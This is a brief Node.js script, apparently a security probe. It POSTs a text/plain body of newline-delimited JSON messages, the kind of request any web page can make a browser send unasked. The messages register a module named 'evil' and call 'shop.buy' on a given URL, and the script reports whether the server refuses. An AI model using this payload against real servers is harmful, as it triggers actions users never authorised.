// What a page of anybody's can make a browser send, without asking first: a POST of plain text.
// Prints whether the other side ended the connection, and what it said.
const [url] = process.argv.slice(2);
const lines = [
  { type: 1, requestId: "1", moduleId: "evil", version: "1.0.0", dependencies: {} },
  { type: 9, requestId: "2", function: "f" },
  { type: 3, requestId: "3", function: "shop.buy", arguments: { all: true } },
];
const body = lines.map((line) => JSON.stringify(line) + "\n").join("");

fetch(url, { method: "POST", headers: { "content-type": "text/plain" }, body })
  .then((response) => response.text().then((text) => ({ answered: text })))
  .catch((error) => ({ failed: String(error.cause ?? error) }))
  .then((out) => console.log(JSON.stringify(out)));
